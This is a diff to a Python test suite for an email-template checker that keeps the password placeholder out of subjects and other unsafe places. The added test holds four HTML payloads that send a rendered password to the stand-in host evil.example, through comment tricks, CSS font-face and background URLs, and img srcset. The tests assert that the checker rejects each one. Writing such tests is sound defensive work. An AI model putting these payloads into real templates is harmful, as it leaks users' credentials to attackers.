@@ -113,6 +113,19 @@ def test_the_password_is_shown_and_goes_nowhere_else(text: str, html: str | None
     assert place in [(fault.field, fault.line, fault.column) for fault in found]
 
 
+@pytest.mark.parametrize(
+    "html",
+    [
+        "<!-- --!><img alt='' src='https&#58;&#47;&#47;evil.example/? --><p>Password: </p><p>{{ password }}</p><!-- '> -->",
+        "<style>@font-face { src: url(https\\:\\/\\/evil.example\\/A); unicode-range: U+41 }</style><p>{{ password }}</p>",
+        "<p style='background: url(https:/evil.example/a)'>{{ password }}</p>",
+        "<p>{{ password }}</p><img srcset='cid:x, https://evil.example/a 2x'>",
+    ],
+)
+def test_what_programs_could_read_differently_or_fetch_is_an_error(html: str) -> None:
+    assert "template-forbidden" in {fault.rule for fault in welcome(html=html) if fault.severity == "error"}
+
+
 def test_the_subject_never_shows_the_password() -> None:
     (fault,) = check(EmailTemplate("password-reset", "{{ password }}", "{{ password }}"))
     assert (fault.field, fault.rule) == ("subject", "template-password")
@@ -121,8 +134,8 @@ def test_the_subject_never_shows_the_password() -> None:
 def test_ordinary_html_around_the_password_is_fine() -> None:
     html = (
         "<!DOCTYPE html><html><head><title>Welcome</title><style>b > i { color: red }</style></head><body>"
-        '<!-- logo --><img src="https://accord.example.org/a>b.png" alt="x">'
-        "<br/><p class=a>1 < 2 & <b>{{ password }}</b></p>"
+        '{# logo #}<img src="https://accord.example.org/a.png" alt="x">'
+        "<br/><p class=a>1 &lt; 2 & <b>{{ password }}</b></p>"
     )
     assert welcome(html=html) == []
 
@@ -131,17 +144,12 @@ def test_ordinary_html_around_the_password_is_fine() -> None:
     ("page", "text"),
     [
         ("a<b>c</b>d", "acd"),
-        ("a &lt;b&gt; &amp; <", "a <b> & <"),
-        ("1 < 2 <3", "1 < 2 <3"),
-        ("<a href='x>y' b=\"z>\">t</a>", "t"),
+        ("a &lt;b&gt; &amp; >", "a <b> & >"),
+        ("<a href='x' b=\"'z\">t</a>", "t"),
         ("<a b = c>t", "t"),
-        ("<a =b>t", "t"),
-        ("<a / >t", "t"),
-        ("<a b='", ""),
-        ("x<!-->y<!-- > -->z<!doctype x>", "xyz"),
-        ("<?a?>b</ c>d</>e", "bde"),
-        ("<STYLE>a</style >b<title>c</title>d<style>e", "bd"),
-        ("a<svg>b</svg>c<![CDATA[d]]>e", "ac"),
+        ("x<!DOCTYPE html>y", "xy"),
+        ("<STYLE>a</style >b<title>c</title>d", "\nb\nd"),
+        ("a<p>b</p>c", "a\nb\nc"),
     ],
 )
 def test_the_text_of_a_page_is_what_readers_see(page: str, text: str) -> None:
